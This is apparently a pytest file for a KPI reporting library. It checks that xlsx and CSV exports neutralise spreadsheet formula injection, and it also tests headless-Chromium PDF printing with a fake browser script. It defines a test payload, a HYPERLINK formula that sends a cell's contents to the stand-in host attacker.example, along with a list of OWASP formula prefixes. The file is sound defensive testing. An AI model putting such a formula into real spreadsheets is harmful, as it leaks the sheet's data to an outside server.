"""Spreadsheet formula injection (SPEC §9 "Spreadsheets"): text is shown, never run, in every xlsx and CSV we write.

A department name, a grade label, a signer's name or a data value that starts like
a formula (`=HYPERLINK(…)` carries the sheet's numbers to another server) must
reach the reader as the text it is. In xlsx every text cell is a string cell with
its value unchanged; in CSV, which has no cell types, such text gets a leading
`'` (OWASP's rule). Numbers stay numbers in both, so `-1.41` keeps its sign.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from kpi_lib.exports import FORMULA_PREFIXES, csv_cell, scorecard_xlsx
from kpi_lib.period import Period
from kpi_lib.result import DepartmentResult, Explanation, IndicatorRecord
from kpi_lib.summary import IndexRow, summary_csv_text, summary_xlsx
from kpi_lib.template import load_template

PAYLOAD = 'HYPERLINK("http://attacker.example/?x="&A2,"details")'
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
ERROR_LOOKALIKES = ["#N/A", "#DIV/0!", "#VALUE!"]


def _decimal(value: float | None) -> Decimal | None:
    return None if value is None else Decimal(repr(value))


def _record(iid: str, score: float | None, explain: Explanation | None = None) -> IndicatorRecord:
    return IndicatorRecord(
        id=iid, group="service", weight=Decimal(5), direction="higher", target=None, value=None, numerator=None,
        denominator=None, steps=None, score=_decimal(score), status="scored", excluded_rows=0, n=None, ci_low=None,
        ci_high=None, explain=explain,
    )  # fmt: skip


def _department_row(text: str, total: float | None = -1.41, score: float | None = 0.0) -> IndexRow:
    """One row of the period summary (as `summary.department_rows` makes it) carrying `text` in every text field."""
    result = DepartmentResult(
        text, Period.parse("2026-Q4"), _decimal(total), text, (_record("CS01", score), _record("CS02", total))
    )
    return IndexRow(text, name=text, lang="zh", labels={text: text}, result=result, rank=1)


def _scorecard(text: str) -> bytes:
    """scorecard.xlsx with `text` as the title, a data line of CS01, the grade and its label, and both signers' names."""
    template = load_template("customer_service")
    explain = Explanation(text, text, None, text, text, text, "")
    indicators = tuple(
        _record(iid, -1.41 if iid == "CS01" else 0, explain if iid == "CS01" else None) for iid in template.ids
    )
    result = DepartmentResult("cs-x", Period.parse("2026-Q4"), Decimal("-1.41"), text, indicators)
    signoffs = [
        {"role": "manager", "name": text, "time": text},
        {"role": "supervisor", "name": text, "time": "2026-01-05T09:00:00+08:00"},
    ]
    return scorecard_xlsx(template, "zh", text, result, {text: text}, signoffs)


def _text_cells(data: bytes) -> Iterator[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is not None and not isinstance(cell.value, (int, float)):
                yield cell


def _summary_csv(tmp_path: Path, rows: list[IndexRow]) -> list[list[str]]:
    path = tmp_path / "summary.csv"
    path.write_bytes(summary_csv_text("2026-Q4", rows).encode("utf-8"))
    return list(
        csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
    )  # bytes: read_text would turn CR into LF


XLSX_WRITERS: dict[str, Callable[[str], bytes]] = {
    "scorecard.xlsx": _scorecard,
    "summary.xlsx": lambda text: summary_xlsx("2026-Q4", [_department_row(text)]),
}


@pytest.mark.parametrize("writer", XLSX_WRITERS)
@pytest.mark.parametrize("text", [p + PAYLOAD for p in PREFIXES] + ERROR_LOOKALIKES, ids=repr)
def test_xlsx_text_is_a_string_cell_with_its_value_unchanged(writer: str, text: str) -> None:
    # A carriage return reads back as a line feed: XML's end-of-line rule, applied by every reader of the file.
    stored = text.replace("\r", "\n")
    cells = [c for c in _text_cells(XLSX_WRITERS[writer](text)) if stored in str(c.value)]
    assert cells, f"{writer}: the text never reached the sheet"
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells if c.data_type != "s"]
    exact = [c for c in cells if c.value == stored]
    assert exact, f"{writer}: no cell holds the text exactly as given"


@pytest.mark.parametrize("writer", XLSX_WRITERS)
def test_no_xlsx_writer_ever_writes_a_formula(writer: str) -> None:
    data = XLSX_WRITERS[writer]("=1+1")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in kinds and "e" not in kinds


@pytest.mark.parametrize("number", [-1.41, 0, 0.0, 105.5])
def test_xlsx_numbers_stay_numbers(number: float) -> None:
    sheet = openpyxl.load_workbook(
        io.BytesIO(summary_xlsx("2026-Q4", [_department_row("=x", total=number, score=number)]))
    ).active
    header, line = list(sheet.iter_rows())[:2]
    by_name = {h.value: c for h, c in zip(header, line, strict=True)}
    for name in ("加权总分 total", "CS01", "CS02"):
        assert by_name[name].data_type == "n" and by_name[name].value == number
    assert by_name["名次 rank"].data_type == "n" and by_name["名次 rank"].value == 1


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_csv_text_that_starts_like_a_formula_gets_a_quote(tmp_path: Path, prefix: str) -> None:
    text = prefix + PAYLOAD
    failed = IndexRow(text, name=text, lang="zh", labels={text: text}, error=f"{text}\nsecond line")
    header, *lines = _summary_csv(tmp_path, [_department_row(text), failed])
    ok, bad = (dict(zip(header, line, strict=True)) for line in lines)
    for name in ("department", "name", "grade", "grade_label"):
        assert ok[name] == "'" + text, name
    # The error column holds the first line of error.txt: a leading CR ends that line before any text.
    assert bad["error"] == ("" if prefix == "\r" else "'" + text)


@pytest.mark.parametrize(
    ("total", "shown"), [(-1.41, "-1.41"), (0, "0.00"), (0.0, "0.00"), (-0.004, "-0.00"), (100.125, "100.13")]
)
def test_csv_numbers_stay_numbers(tmp_path: Path, total: float, shown: str) -> None:
    """Numbers, rounded half-up to the cent (SPEC §4's rounding, `numbers.round2`) as every report shows them."""
    header, line = _summary_csv(tmp_path, [_department_row("cs-x", total=total, score=total)])
    by_name = dict(zip(header, line, strict=True))
    assert by_name["total"] == by_name["CS01"] == by_name["CS02"] == shown
    assert by_name["rank"] == "1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *((p + "x", "'" + p + "x") for p in FORMULA_PREFIXES),
        ("-", "'-"),
        ("a=b", "a=b"),
        (" =x", " =x"),
        ("华东 -1", "华东 -1"),
        ("", ""),
        (None, ""),
        (-1.41, -1.41),
        (0, 0),
        (Decimal("-1.41"), Decimal("-1.41")),
    ],
    ids=repr,
)
def test_csv_cell(value: Any, expected: Any) -> None:
    assert csv_cell(value) == expected


def test_the_prefixes_are_owasps() -> None:
    assert set(FORMULA_PREFIXES) == set(PREFIXES)


# -- PDF: headless Chromium prints the reader's HTML (the real one: tests/test_browser.py) ------
FAKE_CHROMIUM = """#!/bin/sh
printf '%s\\n' "$@" > "$(dirname "$0")/args"
for arg; do case "$arg" in --print-to-pdf=*) out="${arg#--print-to-pdf=}";; esac; done
BEHAVIOUR
"""


@pytest.mark.slow
@pytest.mark.parametrize(
    ("behaviour", "error"),
    [
        ('printf "%%PDF-1.4 fake" > "$out"', None),
        (
            "echo 'ERROR:headless: cannot open display' >&2; exit 1",
            "could not print it to PDF: ERROR:headless: cannot open display",
        ),
        ("exit 0", "could not print it to PDF: exit code 0, no message"),  # says it printed, wrote nothing
        (
            'printf "half" > "$out"; exit 9',
            "could not print it to PDF: exit code 9, no message",
        ),  # a partial file is not kept
    ],
    ids=["prints", "fails", "writes-nothing", "dies-half-way"],
)
def test_html_to_pdf_prints_the_page_as_laid_out_or_names_the_page_it_could_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, behaviour: str, error: str | None
) -> None:
    from kpi_lib.errors import SetupError
    from kpi_lib.exports import html_to_pdf

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "chromium"
    fake.write_text(FAKE_CHROMIUM.replace("BEHAVIOUR", behaviour), encoding="utf-8")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:/usr/bin:/bin")
    page, pdf = tmp_path / "scorecard.html", tmp_path / "pdf" / "scorecard.pdf"
    page.write_text("<html></html>", encoding="utf-8")
    if error is None:
        html_to_pdf(page, pdf)
        assert pdf.read_bytes() == b"%PDF-1.4 fake"
    else:
        with pytest.raises(SetupError, match=re.escape(f"{page}: Chromium {error}")):
            html_to_pdf(page, pdf)
        assert not pdf.exists()
    assert [p.name for p in pdf.parent.iterdir()] == ([pdf.name] if error is None else [])  # no temporary left
    args = (bin_dir / "args").read_text(encoding="utf-8").splitlines()
    # the page's own paper (CSS @page: A4 landscape), no browser header/footer, nothing fetched, the page by file URL
    assert {"--headless", "--no-pdf-header-footer", "--disable-background-networking"} <= set(args)
    assert args[-1] == page.resolve().as_uri() and not any(a.startswith("--paper") for a in args)


def test_without_chromium_the_error_says_how_to_install_it(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from kpi_lib.errors import SetupError
    from kpi_lib.exports import chromium

    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(SetupError, match=re.escape("Chromium is not installed: run `make pdf-deps`")):
        chromium()
